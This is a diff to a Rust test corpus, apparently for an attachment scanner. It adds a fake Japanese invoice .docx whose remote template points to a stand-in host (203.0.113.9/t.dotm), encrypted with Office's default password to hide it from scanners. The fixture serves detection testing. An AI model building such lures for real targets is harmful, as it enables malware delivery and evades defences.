@@ -1000,6 +1000,26 @@ pub fn corpus() -> Vec<Sample> {
         "請求書.7z",
         crate::sevenz::synth(&[], true),
     ));
+    // Office documents encrypted with a password: Excel's built-in one (opens without a
+    // prompt, hides the remote template from scanners), and one no candidate opens.
+    let lure = docx(
+        &para("Please see the attached invoice."),
+        "",
+        Some(
+            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/>"#,
+        ),
+        &[],
+    );
+    v.push(sample(
+        "office_default_password",
+        "請求書.docx",
+        office_encrypted(&lure, crate::offcrypto::DEFAULT_PASSWORD, 11),
+    ));
+    v.push(sample(
+        "office_encrypted",
+        "見積書.xlsx",
+        office_encrypted(&xlsx(10, 3), "Mitsumori#2016", 12),
+    ));
 
     // Executables, names, scripts, shortcuts, HTML.
     v.push(sample(
